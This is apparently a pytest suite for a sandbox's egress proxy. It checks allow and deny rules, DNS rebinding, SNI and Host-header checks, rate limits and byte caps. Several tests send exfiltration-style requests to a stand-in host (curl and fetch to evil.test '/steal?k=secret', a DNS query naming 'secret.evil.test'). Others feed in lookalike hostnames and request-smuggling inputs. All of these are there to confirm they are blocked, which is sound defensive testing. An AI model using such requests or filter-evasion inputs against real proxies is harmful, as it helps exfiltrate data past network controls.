"""Egress through harness's proxy, decided from the host: the servers here
(on the host's loopback) log every connection and request they see, so
"refused" means the server saw nothing, not that the sandboxed client said
so. Loopback is reachable only because each test's policy names it through
a `resolve` override (or an address rule): an allowed *name* that resolves
to loopback is refused (the rebinding test)."""

import http.server
import json
import socket
import socketserver
import subprocess
import threading
import time

import pytest

from conftest import SCALE

TOKEN = "netbody-7d1c"


class Seen:
    def __init__(self):
        self.lock = threading.Lock()
        self.conns = 0
        self.requests = []
        self.bytes = 0

    def add_conn(self):
        with self.lock:
            self.conns += 1


@pytest.fixture
def web():
    """An HTTP server on the host's loopback; web.seen logs what it saw."""
    seen = Seen()

    class H(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def setup(self):
            seen.add_conn()
            super().setup()

        def do_GET(self):
            with seen.lock:
                seen.requests.append((self.path, self.headers.get("Host"),
                                      dict(self.headers)))
            body = f"{TOKEN} {self.path}\n".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            n = int(self.headers.get("Content-Length", "0"))
            data = self.rfile.read(n)
            with seen.lock:
                seen.requests.append((self.path, self.headers.get("Host"), data))
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data.upper())

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    srv.daemon_threads = True
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    srv.seen = seen
    srv.port = srv.server_address[1]
    yield srv
    srv.shutdown()
    srv.server_close()


@pytest.fixture
def echo():
    """A TCP server that upper-cases what it gets; echo.seen counts connections."""
    seen = Seen()

    class H(socketserver.BaseRequestHandler):
        def handle(self):
            seen.add_conn()
            while True:
                d = self.request.recv(65536)
                if not d:
                    break
                with seen.lock:
                    seen.bytes += len(d)
                self.request.sendall(d.upper())

    class Server(socketserver.ThreadingTCPServer):
        request_queue_size = 1024  # the default 5 drops connections under load
        daemon_threads = True
        allow_reuse_address = True

    srv = Server(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    srv.seen = seen
    srv.port = srv.server_address[1]
    yield srv
    srv.shutdown()
    srv.server_close()


def net_policy(tmp_path, allow, deny=(), resolve=None, name="net.json"):
    p = tmp_path / name
    net = {"allow": list(allow), "deny": list(deny)}
    net["resolve"] = {"svc.test": "127.0.0.1", **(resolve or {})}
    p.write_text(json.dumps({"network": net}))
    return p


def records(harness, action=None):
    out = harness.call(["audit", "export", "--format", "jsonl"]).out
    recs = [json.loads(l) for l in out.splitlines()]
    return [r for r in recs if action is None or r["action_type"] == action]


CONNECT_PY = r"""
import socket, sys
host, msg = sys.argv[1].encode().decode("unicode_escape"), sys.argv[2].encode()
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT " + host.encode("latin-1") + b" HTTP/1.1\r\nHost: x\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    d = s.recv(4096)
    if not d:
        break
    head += d
status = head.split(b"\r\n", 1)[0].decode()
print("STATUS", status)
if " 200 " in status + " ":
    s.sendall(msg)
    s.shutdown(socket.SHUT_WR)
    got = b""
    while True:
        d = s.recv(4096)
        if not d:
            break
        got += d
    print("GOT", got.decode())
else:
    print("HEAD", head.decode("latin-1"))
"""


def test_no_network_by_default(harness, web):
    r = harness.py("import os, socket\n"
                   "print('proxy', os.environ.get('HTTP_PROXY'))\n"
                   "for port in (3128, 1080, %d):\n"
                   "    try:\n"
                   "        socket.create_connection(('127.0.0.1', port), timeout=2)\n"
                   "        print('connected', port)\n"
                   "    except OSError as e:\n"
                   "        print('refused', port, e.errno)\n" % web.port)
    assert "proxy None" in r.out and "connected" not in r.out, r
    assert web.seen.conns == 0


def test_proxy_environment(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    r = harness.py("import os\n"
                   "for k in ('HTTP_PROXY', 'https_proxy', 'ALL_PROXY', 'NO_PROXY', 'no_proxy'):\n"
                   "    print(k, repr(os.environ.get(k)))\n",
                   opts=("--policy", pol))
    assert "HTTP_PROXY 'http://127.0.0.1:3128'" in r.out, r
    assert "https_proxy 'http://127.0.0.1:3128'" in r.out, r
    assert "ALL_PROXY 'http://127.0.0.1:3128'" in r.out, r
    assert "NO_PROXY ''" in r.out and "no_proxy ''" in r.out, r


def test_curl_through_the_http_proxy(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    r = harness.run(["curl", "-sS", f"http://svc.test:{web.port}/hello"], "--policy", pol)
    assert r.rc == 0 and f"{TOKEN} /hello" in r.out, r
    path, host, headers = web.seen.requests[0]
    assert path == "/hello" and host == f"svc.test:{web.port}", web.seen.requests
    assert "Proxy-Connection" not in headers, headers  # hop-by-hop headers dropped
    conn = records(harness, "net.connect")
    assert conn and conn[0]["outcome"] == "allowed", conn
    assert conn[0]["metadata"]["addr"] == "127.0.0.1", conn
    close = records(harness, "net.close")
    assert close and close[0]["metadata"]["bytes_down"] > len(TOKEN), close
    assert harness.call(["audit", "verify"]).rc == 0


def test_post_body_is_forwarded(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    r = harness.run(["curl", "-sS", "--data-binary", "payload-xyz",
                     f"http://svc.test:{web.port}/p"], "--policy", pol)
    assert r.out == "PAYLOAD-XYZ", r
    assert web.seen.requests[0][2] == b"payload-xyz"


def test_connect_tunnel(harness, tmp_path, echo):
    pol = net_policy(tmp_path, [f"svc.test:{echo.port}"])
    r = harness.py(CONNECT_PY, f"svc.test:{echo.port}", "hello tunnel", opts=("--policy", pol))
    assert "STATUS HTTP/1.1 200" in r.out and "GOT HELLO TUNNEL" in r.out, r
    assert echo.seen.conns == 1


def test_curl_proxytunnel_and_socks5(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    url = f"http://svc.test:{web.port}/t"
    r = harness.run(["curl", "-sS", "-p", url], "--policy", pol)
    assert f"{TOKEN} /t" in r.out, r
    r = harness.run(["curl", "-sS", "-x", "socks5h://127.0.0.1:1080", url], "--policy", pol)
    assert f"{TOKEN} /t" in r.out, r
    vias = sorted(x["metadata"]["via"] for x in records(harness, "net.connect"))
    assert vias == ["http-connect", "socks5"], vias


def test_denied_host_gets_a_403_naming_it_and_the_server_sees_nothing(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"], resolve={"evil.test": "127.0.0.1"})
    r = harness.run(["curl", "-sS", "-i", f"http://evil.test:{web.port}/steal?k=secret"],
                    "--policy", pol)
    assert "HTTP/1.1 403" in r.out, r
    assert "X-Harness-Refused: evil.test" in r.out, r
    assert "--allow-host" in r.out, r
    assert web.seen.conns == 0, web.seen.requests
    assert "network: refused" in r.err and "evil.test" in r.err, r
    blocked = records(harness, "net.connect")
    assert blocked and blocked[0]["outcome"] == "blocked", blocked


def test_deny_wins_over_allow(harness, tmp_path, web):
    pol = net_policy(tmp_path, ["*.lab.test"], deny=["bad.lab.test"],
                     resolve={"bad.lab.test": "127.0.0.1", "ok.lab.test": "127.0.0.1"})
    r = harness.run(["sh", "-c", f"curl -s -o /dev/null -o /dev/null -w '%{{http_code}} ' "
                     f"http://bad.lab.test:{web.port}/ http://ok.lab.test:{web.port}/"],
                    "--policy", pol)
    assert r.out.split() == ["403", "200"], r
    assert [p for p, *_ in web.seen.requests] == ["/"], web.seen.requests


@pytest.mark.parametrize("target", [
    "svc.test.evil.test:{port}",        # allowed name as a prefix
    "evilsvc.test:{port}",              # allowed name as a suffix
    "svc.test\\x00.evil.test:{port}",   # NUL (decoded by CONNECT_PY)
    "svc.test%2eevil.test:{port}",      # percent-encoding
    "svc.test :{port}",                 # space
    "svc.test:{other}",                 # another port
])
def test_lookalike_targets_are_refused(harness, tmp_path, echo, target):
    pol = net_policy(tmp_path, [f"svc.test:{echo.port}"],
                     resolve={"svc.test.evil.test": "127.0.0.1", "evilsvc.test": "127.0.0.1"})
    t = target.format(port=echo.port, other=echo.port + 1)
    r = harness.py(CONNECT_PY, t, "x", opts=("--policy", pol))
    assert "STATUS HTTP/1.1 4" in r.out, r
    assert echo.seen.conns == 0


def test_case_and_trailing_dot_do_not_matter_for_allow(harness, tmp_path, echo):
    pol = net_policy(tmp_path, [f"svc.test:{echo.port}"])
    r = harness.py(CONNECT_PY, f"SVC.Test:{echo.port}", "a", opts=("--policy", pol))
    assert "GOT A" in r.out, r


def test_rebinding_an_allowed_name_to_loopback_is_refused(harness, tmp_path, web):
    """`localhost` is allowed by name, but it resolves (through the host's
    /etc/hosts) to a loopback address, which no rule names."""
    pol = tmp_path / "p.json"
    pol.write_text(json.dumps({"network": {"allow": [f"localhost:{web.port}"]}}))
    r = harness.run(["curl", "-sS", "-i", f"http://localhost:{web.port}/"], "--policy", pol)
    assert "403" in r.out and "loopback" in r.out, r
    assert web.seen.conns == 0


@pytest.mark.parametrize("spelling", ["127.0.0.1", "2130706433", "0x7f000001", "127.1",
                                      "0177.0.0.1", "[::ffff:127.0.0.1]"])
def test_an_address_rule_matches_every_spelling(harness, tmp_path, echo, spelling):
    pol = tmp_path / "p.json"
    pol.write_text(json.dumps({"network": {"allow": [f"127.0.0.1:{echo.port}"]}}))
    r = harness.py(CONNECT_PY, f"{spelling}:{echo.port}", "a", opts=("--policy", pol))
    assert "GOT A" in r.out, r


@pytest.mark.parametrize("spelling", ["127.0.0.1", "2130706433", "0x7f000001", "[::1]",
                                      "169.254.169.254"])
def test_addresses_no_rule_names_are_refused(harness, tmp_path, echo, spelling):
    pol = net_policy(tmp_path, [f"svc.test:{echo.port}"])
    r = harness.py(CONNECT_PY, f"{spelling}:{echo.port}", "a", opts=("--policy", pol))
    assert "STATUS HTTP/1.1 403" in r.out, r
    assert echo.seen.conns == 0


def test_direct_connections_reach_nothing(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    code = ("import socket\n"
            "for fam, addr in ((socket.AF_INET, ('127.0.0.1', %d)),"
            " (socket.AF_INET, ('10.0.0.1', 80)), (socket.AF_INET6, ('::1', %d))):\n"
            "    try:\n"
            "        socket.socket(fam).connect(addr); print('connected', addr)\n"
            "    except OSError as e:\n"
            "        print('refused', addr, e.errno)\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "try:\n"
            "    u.sendto(b'x', ('127.0.0.1', %d)); print('udp sent')\n"
            "except OSError as e:\n"
            "    print('udp refused', e.errno)\n") % (web.port, web.port, web.port)
    r = harness.py(code, opts=("--policy", pol))
    assert "connected" not in r.out, r
    assert web.seen.conns == 0


def test_malformed_requests_get_400_and_the_proxy_keeps_serving(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    code = ("import socket, subprocess, sys\n"
            "for bad in (b'GARBAGE\\r\\n\\r\\n', b'GET / HTTP/1.1\\r\\nHost: a\\r\\nHost: b\\r\\n\\r\\n',"
            " b'GET http://svc.test:%d/ HTTP/1.1\\r\\nContent-Length: 1\\r\\n"
            "Transfer-Encoding: chunked\\r\\n\\r\\n', b'X' * 20000 + b'\\r\\n\\r\\n'):\n"
            "    s = socket.create_connection(('127.0.0.1', 3128))\n"
            "    s.sendall(bad)\n"
            "    print('REPLY', s.recv(100).split(b'\\r\\n')[0].decode())\n"
            "print(subprocess.run(['curl', '-sS', 'http://svc.test:%d/ok'],"
            " capture_output=True, text=True).stdout)\n") % (web.port, web.port)
    r = harness.py(code, opts=("--policy", pol))
    replies = [l for l in r.out.splitlines() if l.startswith("REPLY")]
    assert len(replies) == 4 and all(" 4" in l for l in replies), r
    assert f"{TOKEN} /ok" in r.out, r
    assert [p for p, *_ in web.seen.requests] == ["/ok"], web.seen.requests


def test_idle_clients_do_not_starve_others(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    code = ("import socket, subprocess\n"
            "idle = [socket.create_connection(('127.0.0.1', 3128)) for _ in range(100)]\n"
            "for s in idle[:50]: s.sendall(b'GET http://svc.test/ HTTP/1.1\\r\\n')\n"
            "print(subprocess.run(['curl', '-sS', '--max-time', '10', 'http://svc.test:%d/x'],"
            " capture_output=True, text=True).stdout)\n") % web.port
    r = harness.py(code, opts=("--policy", pol))
    assert f"{TOKEN} /x" in r.out, r


def test_many_concurrent_tunnels(harness, tmp_path, echo):
    pol = net_policy(tmp_path, [f"svc.test:{echo.port}"])
    n = 1000
    code = ("import socket, threading\n"
            "ok = []\n"
            "def one(i):\n"
            "    s = socket.create_connection(('127.0.0.1', 3128), timeout=30)\n"
            "    s.sendall(b'CONNECT svc.test:%d HTTP/1.1\\r\\n\\r\\n')\n"
            "    h = b''\n"
            "    while b'\\r\\n\\r\\n' not in h: h += s.recv(100)\n"
            "    s.sendall(b'm%%d' %% i); s.shutdown(socket.SHUT_WR)\n"
            "    got = b''\n"
            "    while True:\n"
            "        d = s.recv(100)\n"
            "        if not d: break\n"
            "        got += d\n"
            "    if got == b'M%%d' %% i: ok.append(i)\n"
            "ts = [threading.Thread(target=one, args=(i,)) for i in range(%d)]\n"
            "[t.start() for t in ts]; [t.join() for t in ts]\n"
            "print('OK', len(ok))\n") % (echo.port, n)
    r = harness.py(code, opts=("--policy", pol, "--max-procs", "0"), timeout=120)
    assert f"OK {n}" in r.out, r
    assert echo.seen.conns == n


def test_git_clone_over_http_through_the_proxy(harness, tmp_path, project):
    """A dumb-HTTP git server on the host, cloned from inside."""
    srv_root = tmp_path / "srv"
    srv_root.mkdir()
    work = tmp_path / "w"
    env = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "init", "-q", str(work)], check=True, env=env)
    (work / "f.txt").write_text("from the host\n")
    subprocess.run(["git", "-C", str(work), "add", "f.txt"], check=True, env=env)
    subprocess.run(["git", "-C", str(work), "-c", "user.name=t", "-c", "user.email=t@t",
                    "commit", "-qm", "one"], check=True, env=env)
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(srv_root / "r.git")],
                   check=True, env=env)
    subprocess.run(["git", "-C", str(srv_root / "r.git"), "update-server-info"], check=True,
                   env=env)
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(  # noqa: E731
        *a, directory=str(srv_root), **k)
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        port = srv.server_address[1]
        pol = net_policy(tmp_path, [f"svc.test:{port}"])
        r = harness.run(["git", "clone", "-q", f"http://svc.test:{port}/r.git", "cloned"],
                        "--policy", pol, "--allow-dir", project)
        assert r.rc == 0, r
        assert (project / "cloned" / "f.txt").read_text() == "from the host\n"
        # And over SOCKS5 (git's http.proxy with socks5h: the name is
        # resolved by the proxy, outside).
        r = harness.run(["git", "-c", "http.proxy=socks5h://127.0.0.1:1080", "clone", "-q",
                         f"http://svc.test:{port}/r.git", "cloned2"],
                        "--policy", pol, "--allow-dir", project)
        assert r.rc == 0, r
        assert (project / "cloned2" / "f.txt").read_text() == "from the host\n"
        vias = {x["metadata"]["via"] for x in records(harness, "net.connect")}
        assert vias == {"http", "socks5"}, vias
    finally:
        srv.shutdown()
        srv.server_close()


def test_python_urllib_uses_the_proxy(harness, tmp_path, web):
    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
    r = harness.py("import urllib.request\n"
                   "print(urllib.request.urlopen('http://svc.test:%d/py', timeout=10).read().decode())\n"
                   % web.port, opts=("--policy", pol))
    assert f"{TOKEN} /py" in r.out, r
    assert records(harness, "net.connect")[0]["metadata"]["via"] == "http"


def test_dns_failure_is_a_clear_error_not_a_hang(harness):
    r = harness.run(["curl", "-sS", "-i", "--max-time", "60", "http://no-such-host.invalid/"],
                    "--allow-host", "no-such-host.invalid", timeout=90)
    status = r.out.split("\r\n", 1)[0]
    assert status in ("HTTP/1.1 502 Bad Gateway", "HTTP/1.1 504 Gateway Timeout"), r
    assert "no-such-host.invalid" in r.out, r
    rec = records(harness, "net.connect")
    assert rec and rec[0]["outcome"] == "blocked" and "reason" in rec[0]["metadata"], rec


def test_allow_host_flag(harness, web):
    """--allow-host without a policy file: a name that only resolves to
    loopback is still refused (no rule names the address)."""
    r = harness.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}",
                     f"http://localhost:{web.port}/"], "--allow-host", f"localhost:{web.port}")
    assert r.out == "403", r
    assert web.seen.conns == 0


@pytest.mark.parametrize("bad", ["*", "*.com", "exa mple.com", "a..b", "host:99999", ""])
def test_bad_host_rules_are_refused_at_load(harness, tmp_path, bad):
    r = harness.run(["true"], "--allow-host", bad)
    assert r.rc == 125 and "--allow-host" in r.err, r
    p = tmp_path / "p.json"
    p.write_text(json.dumps({"network": {"allow": [bad]}}))
    r = harness.run(["true"], "--policy", p)
    assert r.rc == 125 and "p.json:1:" in r.err, r


def test_rate_limit_on_connections(harness, tmp_path, web):
    pol = tmp_path / "p.json"
    pol.write_text(json.dumps({"network": {
        "allow": [f"svc.test:{web.port}"], "resolve": {"svc.test": "127.0.0.1"},
        "rate_limits": {"svc.test": {"connections_per_minute": 2}}}}))
    url = f"http://svc.test:{web.port}/"
    r = harness.run(["sh", "-c", f"for i in 1 2 3; do curl -s -o /dev/null -w '%{{http_code}} ' "
                     f"{url}; done"], "--policy", pol)
    assert r.out.split() == ["200", "200", "429"], r
    assert web.seen.conns == 2
    assert "connections a minute" in r.err, r
    lim = records(harness, "net.limit")
    assert lim and lim[0]["outcome"] == "blocked", lim
    assert lim[0]["metadata"]["rule"] == 'network.rate_limits "svc.test"', lim


def test_byte_cap_closes_the_connection(harness, tmp_path, echo):
    pol = tmp_path / "p.json"
    pol.write_text(json.dumps({"network": {
        "allow": [f"svc.test:{echo.port}"], "resolve": {"svc.test": "127.0.0.1"},
        "rate_limits": {"svc.test": {"bytes": 1000}}}}))
    code = ("import socket, time\n"
            "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
            "s.sendall(b'CONNECT svc.test:%d HTTP/1.1\\r\\n\\r\\n')\n"
            "h = b''\n"
            "while b'\\r\\n\\r\\n' not in h: h += s.recv(100)\n"
            "got = 0\n"
            "try:\n"
            "    for i in range(20):\n"
            "        s.sendall(b'x' * 500)\n"
            "        time.sleep(0.02)\n"
            "except OSError as e:\n"
            "    print('send stopped', e.errno)\n"
            "s.settimeout(5)\n"
            "try:\n"
            "    while True:\n"
            "        d = s.recv(65536)\n"
            "        if not d: break\n"
            "        got += len(d)\n"
            "except OSError as e:\n"
            "    print('recv stopped', e.errno)\n"
            "print('GOT', got)\n"
            "s2 = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
            "s2.sendall(b'CONNECT svc.test:%d HTTP/1.1\\r\\n\\r\\n')\n"
            "print('SECOND', s2.recv(100).split(b'\\r\\n')[0].decode())\n") % (echo.port, echo.port)
    r = harness.py(code, opts=("--policy", pol))
    # The cap counts both ways: what went up plus what came back is at most 1000.
    assert echo.seen.bytes <= 1000, (echo.seen.bytes, r)
    got = int(r.out.split("GOT ")[1].split()[0])
    assert echo.seen.bytes + got <= 1000, r
    assert "SECOND HTTP/1.1 429" in r.out, r
    assert "byte cap" in r.err, r


# ------------------------------------------------ the transparent path ---
# Clients that ignore the proxy variables (Node's fetch, and anything with
# them unset) resolve names through harness's DNS stub, which answers
# 127.0.0.1 for allowed names, and connect to 127.0.0.1:443 or :80, where
# the supervisor takes the host from SNI or Host. The upstream port is the
# one asked for (443/80), so the tests pin svc.test:443/:80 to their
# servers' ports with `resolve` (unprivileged tests cannot listen on 443).

NO_PROXY_ENV = ("env", "-u", "HTTP_PROXY", "-u", "http_proxy", "-u", "HTTPS_PROXY",
                "-u", "https_proxy", "-u", "ALL_PROXY", "-u", "all_proxy")


@pytest.fixture
def tls_web(tmp_path):
    """An HTTPS server on the host's loopback with a self-signed certificate
    for svc.test; tls_web.seen logs requests and the SNI it got."""
    import ssl
    key, crt = tmp_path / "k.pem", tmp_path / "c.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                    "-subj", "/CN=svc.test", "-addext", "subjectAltName=DNS:svc.test",
                    "-keyout", str(key), "-out", str(crt)], check=True, capture_output=True)
    seen = Seen()
    seen.sni = []

    class H(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):
            with seen.lock:
                seen.requests.append((self.path, self.headers.get("Host"), None))
            body = f"{TOKEN} tls {self.path}\n".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(crt), str(key))

    def sni_cb(sock, name, c):
        with seen.lock:
            seen.sni.append(name)
    ctx.sni_callback = sni_cb

    class Server(http.server.ThreadingHTTPServer):
        daemon_threads = True

        def get_request(self):
            s, a = super().get_request()
            seen.add_conn()
            return ctx.wrap_socket(s, server_side=True), a

    srv = Server(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    srv.seen = seen
    srv.port = srv.server_address[1]
    srv.cert = crt
    yield srv
    srv.shutdown()
    srv.server_close()


def transparent_policy(tmp_path, tls_port=None, http_port=None, allow=("svc.test",)):
    resolve = {}
    if tls_port:
        resolve["svc.test:443"] = f"127.0.0.1:{tls_port}"
    if http_port:
        resolve["svc.test:80"] = f"127.0.0.1:{http_port}"
    resolve["evil.test"] = "127.0.0.1"
    p = tmp_path / "t.json"
    p.write_text(json.dumps({"network": {"allow": list(allow), "resolve": resolve}}))
    return p


def test_dns_stub_answers_allowed_names_only(harness, tmp_path):
    pol = transparent_policy(tmp_path)
    r = harness.py("import socket\n"
                   "for n in ('svc.test', 'SVC.test', 'evil.test', 'sub.svc.test'):\n"
                   "    try:\n"
                   "        print(n, socket.gethostbyname(n))\n"
                   "    except OSError as e:\n"
                   "        print(n, 'unresolved')\n"
                   "print(open('/etc/resolv.conf').read())\n", opts=("--policy", pol))
    assert "svc.test 127.0.0.1" in r.out and "SVC.test 127.0.0.1" in r.out, r
    assert "evil.test unresolved" in r.out and "sub.svc.test unresolved" in r.out, r
    assert "nameserver 127.0.0.1" in r.out, r
    assert "refused the DNS lookup of evil.test" in r.err, r
    dns = records(harness, "net.dns")
    assert [d["target"] for d in dns] == ["evil.test", "sub.svc.test"], dns


def test_the_stub_forwards_nothing(harness, tmp_path):
    """A refused lookup never leaves the sandbox: no resolver on the host
    side sees it (the policy pins nothing for it and there is no
    upstream resolver in the path at all)."""
    pol = transparent_policy(tmp_path)
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    r = harness.py("import socket\n"
                   "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                   "for dst in (('127.0.0.1', 53), ('127.0.0.1', %d), ('10.255.255.53', 53)):\n"
                   "    try:\n"
                   "        s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"
                   "                 b'\\x06secret\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01', dst)\n"
                   "    except OSError as e:\n"
                   "        print('send', dst, e.errno)\n"
                   "s.settimeout(2)\n"
                   "print('reply', s.recv(512)[:4].hex())\n" % port, opts=("--policy", pol))
    assert "reply 1234" in r.out, r  # the stub answered (NXDOMAIN)...
    with pytest.raises(socket.timeout):
        listener.recv(512)            # ...and nothing reached the host
    listener.close()


def test_node_fetch_over_tls_without_proxy_variables(harness, tmp_path, tls_web):
    pol = transparent_policy(tmp_path, tls_port=tls_web.port)
    code = ("fetch('https://svc.test/node').then(r => r.text()).then(t => console.log('BODY', t))"
            ".catch(e => console.log('ERR', e.cause ? e.cause.code : e))")
    r = harness.run(["node", "-e", code], "--policy", pol,
                    "--env", "NODE_TLS_REJECT_UNAUTHORIZED=0")
    assert f"BODY {TOKEN} tls /node" in r.out, r
    assert tls_web.seen.sni == ["svc.test"], tls_web.seen.sni
    conn = records(harness, "net.connect")
    assert conn and conn[0]["metadata"]["via"] == "tls", conn
    assert conn[0]["metadata"]["addr"] == "127.0.0.1", conn


def test_node_fetch_to_a_denied_host_reaches_nothing(harness, tmp_path, tls_web):
    pol = transparent_policy(tmp_path, tls_port=tls_web.port)
    code = ("fetch('https://evil.test/steal').then(r => console.log('STATUS', r.status))"
            ".catch(e => console.log('ERR', e.cause ? e.cause.code : e))")
    r = harness.run(["node", "-e", code], "--policy", pol,
                    "--env", "NODE_TLS_REJECT_UNAUTHORIZED=0")
    assert "ERR ENOTFOUND" in r.out, r
    assert tls_web.seen.conns == 0


def test_sni_decides_not_the_address(harness, tmp_path, tls_web):
    """A client that resolved an allowed name but sends another name in its
    ClientHello (or none) is refused: the name checked is the one TLS
    carries."""
    pol = transparent_policy(tmp_path, tls_port=tls_web.port)
    code = ("import socket, ssl\n"
            "ctx = ssl.create_default_context(); ctx.check_hostname = False\n"
            "ctx.verify_mode = ssl.CERT_NONE\n"
            "for sni in ('evil.test', None, 'svc.test'):\n"
            "    s = socket.create_connection((socket.gethostbyname('svc.test'), 443), timeout=10)\n"
            "    try:\n"
            "        t = ctx.wrap_socket(s, server_hostname=sni)\n"
            "        t.sendall(b'GET /sni HTTP/1.1\\r\\nHost: svc.test\\r\\nConnection: close\\r\\n\\r\\n')\n"
            "        print(sni, 'OK', t.recv(200).split(b'\\r\\n')[0].decode())\n"
            "    except (ssl.SSLError, OSError) as e:\n"
            "        print(sni, 'REFUSED', type(e).__name__)\n")
    r = harness.py(code, opts=("--policy", pol))
    assert "evil.test REFUSED" in r.out and "None REFUSED" in r.out, r
    assert "svc.test OK HTTP/1.1 200" in r.out, r
    assert tls_web.seen.sni == ["svc.test"], tls_web.seen.sni
    assert "without a server name" in r.err, r


def test_plain_http_by_host_header(harness, tmp_path, web):
    pol = transparent_policy(tmp_path, http_port=web.port)
    r = harness.run([*NO_PROXY_ENV, "curl", "-sS", "http://svc.test/plain"], "--policy", pol)
    assert f"{TOKEN} /plain" in r.out, r
    assert web.seen.requests[0][1] == "svc.test", web.seen.requests
    # The Host header decides: a request to the allowed name's address that
    # names another host is refused.
    r = harness.run([*NO_PROXY_ENV, "curl", "-sS", "-i", "-H", "Host: evil.test",
                     "http://svc.test/x"], "--policy", pol)
    assert "HTTP/1.1 403" in r.out and "evil.test" in r.out, r
    assert [p for p, *_ in web.seen.requests] == ["/plain"], web.seen.requests


def test_git_clone_over_https_both_paths(harness, tmp_path, project):
    """git over HTTPS: through the CONNECT tunnel (HTTPS_PROXY), and with
    the proxy variables unset, through the transparent path (DNS stub, SNI)."""
    import ssl
    srv_root = tmp_path / "srv"
    srv_root.mkdir()
    work = tmp_path / "w"
    env = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "init", "-q", str(work)], check=True, env=env)
    (work / "f.txt").write_text("over tls\n")
    subprocess.run(["git", "-C", str(work), "add", "f.txt"], check=True, env=env)
    subprocess.run(["git", "-C", str(work), "-c", "user.name=t", "-c", "user.email=t@t",
                    "commit", "-qm", "one"], check=True, env=env)
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(srv_root / "r.git")],
                   check=True, env=env)
    subprocess.run(["git", "-C", str(srv_root / "r.git"), "update-server-info"], check=True,
                   env=env)
    key, crt = tmp_path / "k.pem", tmp_path / "c.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                    "-subj", "/CN=svc.test", "-keyout", str(key), "-out", str(crt)],
                   check=True, capture_output=True)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(crt), str(key))
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(  # noqa: E731
        *a, directory=str(srv_root), **k)

    class Server(http.server.ThreadingHTTPServer):
        daemon_threads = True

        def get_request(self):
            sock, addr = super().get_request()
            return ctx.wrap_socket(sock, server_side=True), addr

    srv = Server(("127.0.0.1", 0), handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        pol = transparent_policy(tmp_path, tls_port=srv.server_address[1])
        url = "https://svc.test/r.git"
        r = harness.run(["git", "-c", "http.sslVerify=false", "clone", "-q", url, "c1"],
                        "--policy", pol, "--allow-dir", project)
        assert r.rc == 0, r
        r = harness.run([*NO_PROXY_ENV, "git", "-c", "http.sslVerify=false", "clone", "-q",
                         url, "c2"], "--policy", pol, "--allow-dir", project)
        assert r.rc == 0, r
        for d in ("c1", "c2"):
            assert (project / d / "f.txt").read_text() == "over tls\n"
        vias = {x["metadata"]["via"] for x in records(harness, "net.connect")}
        assert vias == {"http-connect", "tls"}, vias
    finally:
        srv.shutdown()
        srv.server_close()


def test_bulk_transfer_both_ways_arrives_intact(harness, tmp_path):
    """8 MiB each way through a CONNECT tunnel (the spliced relay): the
    host-side server checks what it received byte for byte, and the client
    checks what came back, against the same seeded streams."""
    import hashlib
    import random
    size = 8 << 20
    up = random.Random(1).randbytes(size)
    down = random.Random(2).randbytes(size)
    got = {}

    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]

    def serve():
        c, _ = srv.accept()
        sender = threading.Thread(target=c.sendall, args=(down,))
        sender.start()
        buf = bytearray()
        while len(buf) < size:
            d = c.recv(1 << 20)
            if not d:
                break
            buf += d
        sender.join()
        got["up"] = hashlib.sha256(buf).hexdigest()
